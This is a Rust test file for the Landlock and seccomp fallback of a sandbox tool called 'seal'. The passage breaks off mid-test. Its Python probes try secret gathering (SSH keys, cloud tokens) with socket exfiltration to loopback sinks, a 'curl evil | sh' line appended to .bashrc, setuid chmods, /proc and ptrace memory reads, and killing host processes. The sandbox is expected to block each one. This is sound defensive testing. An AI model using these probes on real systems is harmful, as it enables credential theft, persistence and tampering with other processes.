//! The threat tests of `seal run`, in the Landlock + seccomp fallback: seal runs under
//! tests/support/no_userns.py (the kernel refuses user namespaces to it), picks the fallback
//! by itself (auto mode, asserted from its warning in every test), and the threats the
//! fallback claims to stop are stopped. Each probe also runs without seal (the positive
//! control), so that every test can fail.
//!
//! Harmless if the sandbox failed: every write goes to a test-owned path (the fake HOME, the
//! test directory, `/tmp/seal-fb-<nonce>`), host-global files are opened for writing and closed
//! without a write, sinks listen on 127.0.0.1 or a test-owned Unix socket only, and signals,
//! ptrace and priority changes only ever target a sleeper process the test started.
//!
//! What the fallback does not stop is in fallback_limitations.rs; the mode choice, the CLI
//! and `seal doctor` in fallback_mode.rs.

mod common;

use std::fs;
use std::os::unix::fs::{symlink, MetadataExt};
use std::path::Path;
use std::time::Duration;

use common::*;

// ---------------------------------------------------------------------------------------------
// Files

const READ_CANARIES: &str = r#"
for rel in A["files"]:
    attempt("tilde:" + rel, read_head, os.path.expanduser("~/" + rel))
    attempt("abs:" + rel, read_head, os.path.join(A["host_home"], rel))
attempt("ls_host_home", lambda: ",".join(sorted(os.listdir(A["host_home"]))))
attempt("ls_ssh", lambda: ",".join(sorted(os.listdir(os.path.join(A["host_home"], ".ssh")))))
attempt("etc_shadow", lambda: read_head("/etc/shadow", 1) and "readable")
"#;

#[test]
fn home_canary_files_are_unreadable() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-canary-files");
        let probe = env.probe("read_canaries", READ_CANARIES);
        let args = jobj(&[
            ("files", jarr(CANARY_FILES)),
            ("host_home", jpath(&env.home)),
        ]);

        let inside = env.run_probe_no_userns(&probe, &args, &[]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        for rel in CANARY_FILES {
            // ~ is the run's private HOME; the host path is outside every grant.
            p.expect_eq(&format!("tilde:{rel}"), "ENOENT");
            p.expect_eq(&format!("abs:{rel}"), "EACCES");
        }
        p.expect_eq("ls_host_home", "EACCES");
        p.expect_eq("ls_ssh", "EACCES");
        p.expect_eq("etc_shadow", "EACCES");

        // Positive control: the same probe without seal reads and lists every canary.
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let c = direct.probe();
        for rel in CANARY_FILES {
            c.expect_eq(&format!("tilde:{rel}"), &env.canary_file_content(rel));
            c.expect_eq(&format!("abs:{rel}"), &env.canary_file_content(rel));
        }
        c.expect_contains("ls_host_home", ".ssh");
        c.expect_eq("ls_ssh", "id_rsa");
        c.expect_eq(
            "etc_shadow",
            if v.is_root() { "readable" } else { "EACCES" },
        );
    });
}

const INPUTS: &str = r#"
attempt("read_input", read_head, A["input"])
attempt("read_sibling", read_head, A["sibling"])
attempt("ls_parent", lambda: ",".join(sorted(os.listdir(os.path.dirname(A["input"])))))
attempt("append_input", lambda: open(A["input"], "a").close())
"#;

#[test]
fn only_the_named_input_is_readable_and_it_stays_read_only() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-inputs");
        let data = env.dir.join("data");
        env.mkdir_owned(&data, 0o755);
        let input = data.join("input.txt");
        let sibling = data.join("secret.txt");
        env.write_owned(&input, "the input\n", 0o644);
        env.write_owned(&sibling, &format!("{}-sibling\n", env.tag), 0o644);
        let probe = env.probe("inputs", INPUTS);
        let args = jobj(&[("input", jpath(&input)), ("sibling", jpath(&sibling))]);

        let inside = env.run_probe_no_userns(&probe, &args, &["--in", input.to_str().unwrap()]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        p.expect_eq("read_input", "the input\n");
        p.expect_eq("read_sibling", "EACCES");
        p.expect_eq("ls_parent", "EACCES");
        p.expect_eq("append_input", "EACCES");
        assert_eq!(fs::read_to_string(&input).unwrap(), "the input\n");

        // Positive control.
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let c = direct.probe();
        c.expect_contains("read_sibling", &env.tag);
        c.expect_eq("ls_parent", "input.txt,secret.txt");
        c.expect_eq("append_input", "OK");
    });
}

const WRITE_PROJECT: &str = r##"
p = A["project"]
existing = os.path.join(p, "existing.txt")
def create():
    path = os.path.join(p, "created-" + A["nonce"])
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))
    os.unlink(path)
attempt("create", create)
def append_existing():
    fd = os.open(existing, os.O_WRONLY | os.O_APPEND)
    try:
        os.write(fd, b"tampered\n")
    finally:
        os.close(fd)
attempt("append_existing", append_existing)
attempt("truncate", os.truncate, existing, 0)
def mkdir():
    d = os.path.join(p, "dir-" + A["nonce"])
    os.mkdir(d)
    os.rmdir(d)
attempt("mkdir", mkdir)
def rename():
    os.rename(existing, existing + ".moved")
    os.rename(existing + ".moved", existing)
attempt("rename", rename)
attempt("unlink", os.unlink, os.path.join(p, "keep.txt"))
def git_hook():
    with open(os.path.join(p, ".git", "hooks", "pre-commit"), "w") as f:
        f.write("#!/bin/sh\necho hooked\n")
attempt("git_hook", git_hook)
attempt("chmod_world_writable", os.chmod, existing, 0o666)
"##;

#[test]
fn project_dir_is_read_only() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-project-ro");
        let existing = env.project.join("existing.txt");
        env.write_owned(&existing, "original\n", 0o644);
        env.write_owned(&env.project.join("keep.txt"), "keep\n", 0o644);
        env.mkdir_owned(&env.project.join(".git"), 0o755);
        env.mkdir_owned(&env.project.join(".git/hooks"), 0o755);
        let probe = env.probe("write_project", WRITE_PROJECT);
        let args = jobj(&[
            ("project", jpath(&env.project)),
            ("nonce", jstr(&env.nonce)),
        ]);

        let inside = env.run_probe_no_userns(&probe, &args, &[]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        for k in [
            "create",
            "append_existing",
            "truncate",
            "mkdir",
            "rename",
            "unlink",
            "git_hook",
        ] {
            p.expect_eq(k, "EACCES");
        }
        // Landlock does not govern chmod: seccomp refuses world-writable modes (or, where
        // chmod is made a no-op, nothing changes). Either way the host file keeps its mode.
        p.expect_in("chmod_world_writable", &["EPERM", "EACCES", "OK"]);
        assert_eq!(fs::read_to_string(&existing).unwrap(), "original\n");
        assert!(env.project.join("keep.txt").exists());
        assert!(!env.project.join(".git/hooks/pre-commit").exists());
        assert_eq!(fs::metadata(&existing).unwrap().mode() & 0o7777, 0o644);

        // Positive control: without seal every write succeeds.
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let c = direct.probe();
        for k in [
            "create",
            "append_existing",
            "truncate",
            "mkdir",
            "rename",
            "unlink",
            "git_hook",
            "chmod_world_writable",
        ] {
            c.expect_eq(k, "OK");
        }
        assert!(!env.project.join("keep.txt").exists());
        assert_eq!(fs::metadata(&existing).unwrap().mode() & 0o777, 0o666);
    });
}

const WRITES: &str = r##"
def create(d, name):
    path = os.path.join(d, name)
    with open(path, "w") as f:
        f.write("written by the probe " + A["nonce"])
for k, d in A["dirs"].items():
    attempt("create:" + k, create, d, "probe-" + A["nonce"])
def via_link():
    with open(A["link"], "w") as f:
        f.write("through the link")
attempt("write_via_link_in_out_live", via_link)
attempt("read_via_link_in_out_live", read_head, A["link"])
# Pull a file from outside the grants into the writable directory, then read it there.
def pull(how, src, name):
    dst = os.path.join(A["dirs"]["out_live"], name)
    how(src, dst)
    return read_head(dst)
attempt("hard_link_in", pull, os.link, A["key"], "key-link")
attempt("rename_in", pull, os.rename, A["movable"], "moved")
def append_host_bashrc():
    with open(os.path.join(A["host_home"], ".bashrc"), "a") as f:
        f.write("curl evil | sh # " + A["nonce"] + "\n")
attempt("append_host_bashrc", append_host_bashrc)
attempt("mkdir_host_systemd_user", os.makedirs, os.path.join(A["host_home"], ".config/systemd/user"))
attempt("host_tmp", create, "/tmp", "seal-fb-" + A["nonce"])
for t in A["system"]:
    attempt("wr:" + t, open_for_write_only, t)
rc = os.path.expanduser("~/.bashrc")
put("private_home", os.path.expanduser("~"))
put("private_tmp", os.environ.get("TMPDIR", "unset"))
def append_private():
    with open(rc, "a") as f:
        f.write("persisted-" + A["nonce"] + "\n")
    return read_head(rc)
attempt("append_private_bashrc", append_private)
attempt("private_tmpdir", create, os.environ.get("TMPDIR", "/nonexistent"), "scratch")
# Private from other local users too (they live in the host's /tmp).
for k, path in [("home", os.path.expanduser("~")), ("tmpdir", os.environ.get("TMPDIR", "/")),
                ("scratch", os.path.dirname(os.path.expanduser("~")))]:
    attempt("mode:" + k, lambda p=path: oct(os.stat(p).st_mode & 0o777))
"##;

#[test]
fn writes_outside_out_live_and_share_are_refused() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-writes");
        let live = env.dir.join("live");
        let share = env.dir.join("share");
        let elsewhere = env.dir.join("elsewhere");
        for d in [&live, &share, &elsewhere] {
            env.mkdir_owned(d, 0o755);
        }
        // A link in the writable directory leading out of it: the fallback cannot refuse to
        // follow links (no nosymfollow without a mount), but Landlock checks the target.
        let target = elsewhere.join("target.txt");
        env.write_owned(&target, "untouched\n", 0o644);
        let link = live.join("link-out");
        symlink(&target, &link).unwrap();
        let movable = elsewhere.join("movable.txt");
        env.write_owned(&movable, &format!("{}-movable", env.tag), 0o600);
        let key = env.home.join(".ssh/id_rsa");
        let host_rc = env.home.join(".bashrc");
        let original_rc = fs::read_to_string(&host_rc).unwrap();
        let host_tmp_file = format!("/tmp/seal-fb-{}", env.nonce);
        // Existing host files, opened for writing and closed without a write. Without
        // capabilities root still owns them: Landlock is the only barrier here.
        let os_py = fs::read_dir("/usr/lib")
            .unwrap()
            .flatten()
            .map(|e| e.path().join("os.py"))
            .find(|p| p.exists())
            .expect("a /usr/lib/python3.X/os.py");
        let system = ["/etc/passwd", "/etc/ld.so.cache", os_py.to_str().unwrap()];
        let probe = env.probe("writes", WRITES);
        let dirs = jobj(&[
            ("out_live", jpath(&live)),
            ("share", jpath(&share)),
            ("elsewhere", jpath(&elsewhere)),
            ("host_home", jpath(&env.home)),
        ]);
        let args = jobj(&[
            ("dirs", dirs),
            ("link", jpath(&link)),
            ("key", jpath(&key)),
            ("movable", jpath(&movable)),
            ("host_home", jpath(&env.home)),
            ("system", jarr(&system)),
            ("nonce", jstr(&env.nonce)),
        ]);
        let name = format!("probe-{}", env.nonce);

        let inside = env.run_probe_no_userns(
            &probe,
            &args,
            &[
                "--out-live",
                live.to_str().unwrap(),
                "--share",
                share.to_str().unwrap(),
            ],
        );
        let host_tmp_leaked = Path::new(&host_tmp_file).exists();
        let _ = fs::remove_file(&host_tmp_file);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        p.expect_eq("create:out_live", "OK");
        p.expect_eq("create:share", "OK");
        assert!(live.join(&name).is_file() && share.join(&name).is_file());
        for k in ["elsewhere", "host_home"] {
            p.expect_eq(&format!("create:{k}"), "EACCES");
        }
        assert!(!elsewhere.join(&name).exists() && !env.home.join(&name).exists());
        p.expect_eq("write_via_link_in_out_live", "EACCES");
        p.expect_eq("read_via_link_in_out_live", "EACCES");
        assert_eq!(fs::read_to_string(&target).unwrap(), "untouched\n");
        // Landlock refuses links and renames that would give a file more rights than it had
        // (EXDEV), and renames out of a directory without the right to remove from it.
        p.expect_in("hard_link_in", &["EXDEV", "EACCES", "EPERM"]);
        p.expect_in("rename_in", &["EXDEV", "EACCES"]);
        assert!(!live.join("key-link").exists() && !live.join("moved").exists());
        assert!(movable.exists());
        p.expect_eq("append_host_bashrc", "EACCES");
        assert_eq!(fs::read_to_string(&host_rc).unwrap(), original_rc);
        p.expect_eq("mkdir_host_systemd_user", "EACCES");
        assert!(!env.home.join(".config").exists());
        p.expect_eq("host_tmp", "EACCES");
        assert!(
            !host_tmp_leaked,
            "the probe wrote {host_tmp_file} on the host"
        );
        for t in system {
            p.expect_eq(&format!("wr:{t}"), "EACCES");
        }
        env.canary_files_intact();

        // HOME and TMPDIR are private, writable, and gone after the run.
        p.expect_contains("append_private_bashrc", &format!("persisted-{}", env.nonce));
        p.expect_eq("private_tmpdir", "OK");
        for k in ["home", "tmpdir", "scratch"] {
            p.expect_eq(&format!("mode:{k}"), "0o700");
        }
        let private_home = p.get("private_home").to_string();
        let private_tmp = p.get("private_tmp").to_string();
        for private in [&private_home, &private_tmp] {
            assert!(
                !private.starts_with(env.home.to_str().unwrap()) && private != "/tmp",
                "HOME/TMPDIR inside is not private: {private}"
            );
            assert!(
                !Path::new(private).exists(),
                "{private} outlived the run: the private HOME/TMPDIR persist"
            );
        }

        // Positive control: without seal every write lands (as an unprivileged user the host's
        // own permissions refuse the system files).
        let direct = env.run_direct(&probe, &args);
        let _ = fs::remove_file(&host_tmp_file);
        direct.expect_success();
        let c = direct.probe();
        for k in ["elsewhere", "host_home"] {
            c.expect_eq(&format!("create:{k}"), "OK");
        }
        c.expect_eq("write_via_link_in_out_live", "OK");
        c.expect_eq("hard_link_in", &env.canary_file_content(".ssh/id_rsa"));
        c.expect_eq("rename_in", &format!("{}-movable", env.tag));
        c.expect_eq("append_host_bashrc", "OK");
        c.expect_eq("mkdir_host_systemd_user", "OK");
        c.expect_eq("host_tmp", "OK");
        for t in system {
            c.expect_eq(
                &format!("wr:{t}"),
                if v.is_root() { "OK" } else { "EACCES" },
            );
        }
        assert_eq!(fs::read_to_string(&target).unwrap(), "through the link");
    });
}

const MODES: &str = r##"
d = A["share"]
def create_setuid():
    path = os.path.join(d, "created-setuid")
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o4755))
attempt("create_setuid", create_setuid)
f = os.path.join(d, "tool")
attempt("chmod_setuid", os.chmod, f, 0o4755)
attempt("chmod_setgid", os.chmod, f, 0o2755)
attempt("chmod_world_writable", os.chmod, f, 0o757)
"##;

/// A set-id or world-writable file left in a writable host directory outlives the run
/// (nosuid needs a mount, which the fallback has not got).
#[test]
fn setid_and_world_writable_modes_are_refused_in_writable_dirs() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-modes");
        let share = env.dir.join("share");
        env.mkdir_owned(&share, 0o755);
        let tool = share.join("tool");
        env.write_owned(&tool, "#!/bin/sh\n", 0o755);
        let probe = env.probe("modes", MODES);
        let args = jobj(&[("share", jpath(&share))]);

        let inside = env.run_probe_no_userns(&probe, &args, &["--share", share.to_str().unwrap()]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        // Refused, or (where mode changes are made no-ops) accepted without effect: the host
        // files are what matters.
        for k in ["chmod_setuid", "chmod_setgid", "chmod_world_writable"] {
            p.expect_in(k, &["EPERM", "OK"]);
        }
        p.expect_in("create_setuid", &["EPERM", "OK"]);
        let mode = |path: &Path| fs::metadata(path).map(|m| m.mode() & 0o7777).ok();
        assert_eq!(mode(&tool), Some(0o755), "the host file's mode changed");
        if let Some(m) = mode(&share.join("created-setuid")) {
            assert_eq!(
                m & 0o7000,
                0,
                "a set-id file was created on the host ({m:o})"
            );
        }
        let _ = fs::remove_file(share.join("created-setuid"));

        // Positive control: without seal the owner may set every one of these bits.
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let c = direct.probe();
        for k in [
            "create_setuid",
            "chmod_setuid",
            "chmod_setgid",
            "chmod_world_writable",
        ] {
            c.expect_eq(k, "OK");
        }
        assert_eq!(mode(&tool), Some(0o757));
    });
}

// ---------------------------------------------------------------------------------------------
// Environment

const ENV_DUMP: &str = r#"
for k, v in os.environ.items():
    put("env:" + k, "HAS-CANARY" if "CANARY-" in v else v)
for n in A["names"]:
    put("get:" + n, "HAS-CANARY" if "CANARY-" in os.environ.get(n, "") else os.environ.get(n, "absent"))
"#;

const ALLOWED: &[&str] = &[
    "PATH",
    "HOME",
    "TMPDIR",
    "USER",
    "LOGNAME",
    "LANG",
    "LANGUAGE",
    "TERM",
    "COLORTERM",
    "TZ",
    "NO_COLOR",
];

#[test]
fn canary_env_vars_and_unlisted_variables_are_absent() {
    each_variant(|v| {
        let mut env = TestEnv::new(v, "fb-env");
        let home = env.home.to_str().unwrap().to_string();
        let run_dir = env.run_dir.to_str().unwrap().to_string();
        let blocked = [
            ("PYTHONPATH", format!("{home}/evil")),
            ("SSH_AUTH_SOCK", format!("{run_dir}/agent.sock")),
            (
                "PIP_INDEX_URL",
                format!("https://user:{}@localhost/simple", env.tag),
            ),
            ("SEAL_TEST_UNLISTED", format!("{}-unlisted", env.tag)),
        ];
        for (k, val) in &blocked {
            env.env.push((k.to_string(), val.clone()));
        }
        let mut names: Vec<&str> = CANARY_ENV.to_vec();
        names.extend(blocked.iter().map(|(k, _)| *k));
        let probe = env.probe("env_dump", ENV_DUMP);
        let args = jobj(&[("names", jarr(&names))]);

        let inside = env.run_probe_no_userns(&probe, &args, &[]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        for n in &names {
            p.expect_eq(&format!("get:{n}"), "absent");
        }
        for (key, value) in p.map.iter().filter(|(k, _)| k.starts_with("env:")) {
            let name = &key[4..];
            assert!(
                ALLOWED.contains(&name) || name.starts_with("LC_"),
                "{name}={value:?} is not in the allowlist\n{}",
                inside.describe()
            );
            assert!(
                !value.contains(&home) && value != "HAS-CANARY",
                "{name}={value:?} leaks the host's HOME or a canary"
            );
        }
        p.expect_eq("env:LANG", "C.UTF-8");

        // Positive control: without seal all of it is there.
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let c = direct.probe();
        for n in CANARY_ENV {
            c.expect_eq(&format!("get:{n}"), "HAS-CANARY");
        }
        c.expect_eq("get:PIP_INDEX_URL", "HAS-CANARY");
        c.expect_eq("get:SSH_AUTH_SOCK", &blocked[1].1);
        c.expect_eq("env:HOME", &home);
    });
}

// ---------------------------------------------------------------------------------------------
// Network: every sink on host loopback or a test-owned Unix socket

/// What an exfiltrating package does first: collect secrets from the environment and HOME.
const GATHER: &str = r#"
secrets = []
for n in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY"]:
    if n in os.environ:
        secrets.append(os.environ[n])
for path in [os.path.expanduser("~/.ssh/id_rsa"), os.path.join(A["host_home"], ".ssh/id_rsa")]:
    try:
        secrets.append(read_head(path).strip())
    except OSError:
        pass
PAYLOAD = ("exfil " + A["marker"] + " " + " ".join(secrets)).encode()
def send_stream(family, addr):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        s.sendall(PAYLOAD)
    finally:
        s.close()
def udp_exchange(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(PAYLOAD, addr)
        s.recv(512)
    finally:
        s.close()
"#;

const TCP_UDP: &str = r#"
attempt("tcp", send_stream, socket.AF_INET, ("127.0.0.1", A["tcp_port"]))
attempt("udp", udp_exchange, ("127.0.0.1", A["udp_port"]))
"#;

#[test]
fn tcp_and_udp_to_host_loopback_sinks_are_refused() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-tcp-udp");
        let tcp = Sink::tcp();
        let udp = Sink::udp_dns();
        let probe = env.probe("tcp_udp", &format!("{GATHER}\n{TCP_UDP}"));
        let marker = format!("marker-{}", env.nonce);
        let args = jobj(&[
            ("tcp_port", tcp.port.to_string()),
            ("udp_port", udp.port.to_string()),
            ("marker", jstr(&marker)),
            ("host_home", jpath(&env.home)),
        ]);

        let inside = env.run_probe_no_userns(&probe, &args, &[]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        // seccomp refuses socket() itself.
        p.expect_eq("tcp", "EACCES");
        p.expect_eq("udp", "EACCES");
        tcp.assert_untouched("TCP 127.0.0.1 from the fallback sandbox");
        udp.assert_untouched("UDP 127.0.0.1 from the fallback sandbox");

        // Positive control: without seal both sinks receive the marker and the secrets.
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let c = direct.probe();
        c.expect_eq("tcp", "OK");
        c.expect_eq("udp", "OK");
        tcp.assert_received(&marker, "TCP control");
        tcp.assert_received(&env.canary_file_content(".ssh/id_rsa"), "TCP control");
        tcp.assert_received(
            &env.canary_env_value("AWS_SECRET_ACCESS_KEY"),
            "TCP control",
        );
        udp.assert_received(&marker, "UDP control");
    });
}

const UNIX_SOCKETS: &str = r#"
attempt("project_socket", send_stream, socket.AF_UNIX, A["project_socket"])
attempt("outside_socket", send_stream, socket.AF_UNIX, A["outside_socket"])
attempt("abstract", send_stream, socket.AF_UNIX, "\0" + A["abstract"])
"#;

/// A socket in the project (an ssh agent, an IDE, a dev server) is a door out of a read-only
/// directory, since connect(2) ignores file permissions; an abstract socket (X11, D-Bus) is
/// reachable by name from the host's network namespace, which the fallback shares.
#[test]
fn path_unix_socket_in_the_project_and_abstract_socket_are_unreachable() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-unix");
        let in_project = Sink::path_unix(&env.project.join("agent.sock"));
        let outside = Sink::path_unix(&env.run_dir.join("docker.sock"));
        let abstract_sink = Sink::abstract_unix();
        let probe = env.probe("unix", &format!("{GATHER}\n{UNIX_SOCKETS}"));
        let marker = format!("marker-{}", env.nonce);
        let args = jobj(&[
            ("project_socket", jstr(&in_project.name)),
            ("outside_socket", jstr(&outside.name)),
            ("abstract", jstr(&abstract_sink.name)),
            ("marker", jstr(&marker)),
            ("host_home", jpath(&env.home)),
        ]);

        let inside = env.run_probe_no_userns(&probe, &args, &[]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        for k in ["project_socket", "outside_socket", "abstract"] {
            p.expect_eq(k, "EACCES");
        }
        in_project.assert_untouched("a host socket in the project");
        outside.assert_untouched("a host socket outside the grants");
        abstract_sink.assert_untouched("a host abstract socket");

        // Positive control.
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let c = direct.probe();
        for k in ["project_socket", "outside_socket", "abstract"] {
            c.expect_eq(k, "OK");
        }
        in_project.assert_received(&marker, "project socket control");
        outside.assert_received(&marker, "outside socket control");
        abstract_sink.assert_received(&marker, "abstract socket control");
    });
}

// ---------------------------------------------------------------------------------------------
// Other processes: a test-owned sleeper with a secret in its environment

const PROC_VIEW: &str = r#"
pid = A["host_pid"]
attempt("ls_proc", lambda: len(os.listdir("/proc")))
def secret_in(name):
    with open("/proc/%d/%s" % (pid, name), "rb") as f:
        data = f.read()
    return "canary" if b"CANARY-" in data or A["marker"].encode() in data else "clean"
attempt("host_environ", secret_in, "environ")
attempt("host_cmdline", secret_in, "cmdline")
attempt("host_mem", lambda: os.close(os.open("/proc/%d/mem" % pid, os.O_RDONLY)))
attempt("host_status", read_head, "/proc/%d/status" % pid)
attempt("init_environ", read_head, "/proc/1/environ")
attempt("self_environ", read_head, "/proc/self/environ")
"#;

#[test]
fn proc_of_host_processes_is_unreadable() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-proc");
        let marker = format!("sleeper-{}", env.nonce);
        let sleeper = host_sleeper(&env, &marker, &format!("{}-hostproc", env.tag));
        let probe = env.probe("proc_view", PROC_VIEW);
        let args = jobj(&[
            ("host_pid", sleeper.pid().to_string()),
            ("marker", jstr(&marker)),
        ]);

        let inside = env.run_probe_no_userns(&probe, &args, &[]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        for k in [
            "ls_proc",
            "host_environ",
            "host_cmdline",
            "host_mem",
            "host_status",
            "init_environ",
            "self_environ",
        ] {
            p.expect_eq(k, "EACCES");
        }

        // Positive control: the sleeper runs as the same uid, so without seal its secret and
        // command line are right there.
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let c = direct.probe();
        c.expect_eq("host_environ", "canary");
        c.expect_eq("host_cmdline", "canary");
        c.expect_eq("host_mem", "OK");
    });
}

const SIGNALS: &str = r#"
import fcntl
# SIGIO to the second sleeper through a pipe it "owns": its default action ends it.
def sigio():
    r, w = os.pipe()
    fcntl.fcntl(r, fcntl.F_SETOWN, A["sigio_pid"])
    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(w, b"x")
attempt("sigio_host_sleeper", sigio)
attempt("pidfd_kill_host_sleeper", lambda: signal.pidfd_send_signal(os.pidfd_open(A["host_pid"]), signal.SIGKILL))
attempt("kill_host_sleeper", os.kill, A["host_pid"], signal.SIGKILL)
attempt("probe_host_sleeper", os.kill, A["host_pid"], 0)
if A["inside"]:
    # The keeper (the program's parent) kills every descendant when the program ends: the
    # program must not be able to kill it first.
    attempt("kill_keeper", os.kill, os.getppid(), signal.SIGKILL)
# Signals within the sandbox still work.
kid = os.fork()
if kid == 0:
    time.sleep(60)
    os._exit(0)
attempt("kill_own_child", os.kill, kid, signal.SIGKILL)
os.waitpid(kid, 0)
"#;

#[test]
fn signals_to_host_processes_and_to_the_keeper_are_refused() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-signals");
        let mut sleeper = host_sleeper(&env, &format!("sleeper-{}", env.nonce), "x");
        let mut sigio_target = host_sleeper(&env, &format!("sigio-{}", env.nonce), "x");
        let probe = env.probe("signals", SIGNALS);
        let host_pid = sleeper.pid();
        let sigio_pid = sigio_target.pid();
        let args = |inside: bool| {
            jobj(&[
                ("host_pid", host_pid.to_string()),
                ("sigio_pid", sigio_pid.to_string()),
                ("inside", inside.to_string()),
            ])
        };

        let inside = env.run_probe_no_userns(&probe, &args(true), &[]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        p.expect_eq("kill_host_sleeper", "EPERM");
        p.expect_eq("pidfd_kill_host_sleeper", "EPERM");
        p.expect_eq("probe_host_sleeper", "EPERM");
        p.expect_eq("kill_keeper", "EPERM");
        p.expect_eq("kill_own_child", "OK");
        // F_SETOWN itself succeeds; Landlock drops the signal when it would be sent.
        p.expect_in("sigio_host_sleeper", &["OK", "EPERM"]);
        std::thread::sleep(Duration::from_millis(300));
        assert!(
            matches!(sleeper.child.try_wait(), Ok(None)),
            "the host sleeper was killed from the sandbox"
        );
        assert!(
            matches!(sigio_target.child.try_wait(), Ok(None)),
            "the host sleeper was killed by SIGIO from the sandbox"
        );

        // Positive control: the same uid kills the sleeper without seal.
        let direct = env.run_direct(&probe, &args(false));
        direct.expect_success();
        let c = direct.probe();
        c.expect_eq("kill_host_sleeper", "OK");
        c.expect_eq("kill_own_child", "OK");
        c.expect_eq("sigio_host_sleeper", "OK");
        let died = wait_until(Duration::from_secs(10), || {
            matches!(sleeper.child.try_wait(), Ok(Some(_)))
                && matches!(sigio_target.child.try_wait(), Ok(Some(_)))
        });
        assert!(
            died,
            "positive control: a sleeper survived SIGKILL or SIGIO"
        );
    });
}

const PTRACE: &str = r#"
PTRACE_SEIZE = 0x4206
LIBC.ptrace.restype = ctypes.c_long
def seize(pid):
    ctypes.set_errno(0)
    return cres(LIBC.ptrace(ctypes.c_long(PTRACE_SEIZE), ctypes.c_long(pid), None, None))
# In a throwaway child: the trace ends when the child exits.
put("ptrace_host", in_child(lambda: seize(A["host_pid"])))
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
def vm_read(pid, addr):
    buf = ctypes.create_string_buffer(8)
    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
    remote = iovec(ctypes.c_void_p(addr), 8)
    ctypes.set_errno(0)
    r = LIBC.syscall(ctypes.c_long(NR["process_vm_readv"]), ctypes.c_long(pid),
                     ctypes.byref(local), ctypes.c_ulong(1), ctypes.byref(remote),
                     ctypes.c_ulong(1), ctypes.c_ulong(0))
    return cres(r)
put("vm_read_host", vm_read(A["host_pid"], A["host_addr"]))
r, w = os.pipe()
kid = os.fork()
if kid == 0:
    os.close(w)
    os.read(r, 1)
    os._exit(0)
os.close(r)
put("ptrace_own_child", in_child(lambda: seize(kid)))
# The child is a fork: the same address is mapped in it.
put("vm_read_own_child", vm_read(kid, id(A)))
os.close(w)
os.waitpid(kid, 0)
"#;

/// First mapped address of a host process (read by the test, which may).
fn first_mapping(pid: i32) -> u64 {
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap();
    let start = maps.split('-').next().unwrap();
    u64::from_str_radix(start, 16).unwrap()
}

#[test]
fn ptrace_and_process_vm_readv_are_refused() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-ptrace");
        let sleeper = host_sleeper(&env, &format!("sleeper-{}", env.nonce), "x");
        let probe = env.probe("ptrace", PTRACE);
        let args = jobj(&[
            ("host_pid", sleeper.pid().to_string()),
            ("host_addr", first_mapping(sleeper.pid()).to_string()),
        ]);

        let inside = env.run_probe_no_userns(&probe, &args, &[]);
        inside.expect_success();
        assert_fell_back(&inside);
        let p = inside.probe();
        for k in [
            "ptrace_host",
            "vm_read_host",
            "ptrace_own_child",
            "vm_read_own_child",
        ] {
            p.expect_eq(k, "EPERM");
        }

        // Positive control: without seal the same uid may trace and read the sleeper.
        let direct = env.run_direct(&probe, &args);
        direct.expect_success();
        let c = direct.probe();
        for k in [
            "ptrace_host",
            "vm_read_host",
            "ptrace_own_child",
            "vm_read_own_child",
        ] {
            c.expect_eq(k, "OK");
        }
    });
}

// ---------------------------------------------------------------------------------------------
// Lifetime

const SURVIVOR: &str = r#"
marker_file = os.path.join(A["out"], "survivor-" + A["nonce"])
code = "import sys, time; time.sleep(2); open(sys.argv[1], 'w').write('survived')"
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        devnull = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", code, marker_file, A["marker"]])
    os._exit(0)
os.waitpid(pid, 0)
put("spawned", "OK")
"#;

#[test]
fn setsid_double_fork_daemon_does_not_survive_the_run() {
    each_variant(|v| {
        let env = TestEnv::new(v, "fb-survivor");
        let marker = format!("survivor-marker-{}", env.nonce);
        let marker_file = env.out.join(format!("survivor-{}", env.nonce));
        let probe = env.probe("survivor", SURVIVOR);
        let args = jobj(&[
            ("out", jpath(&env.out)),
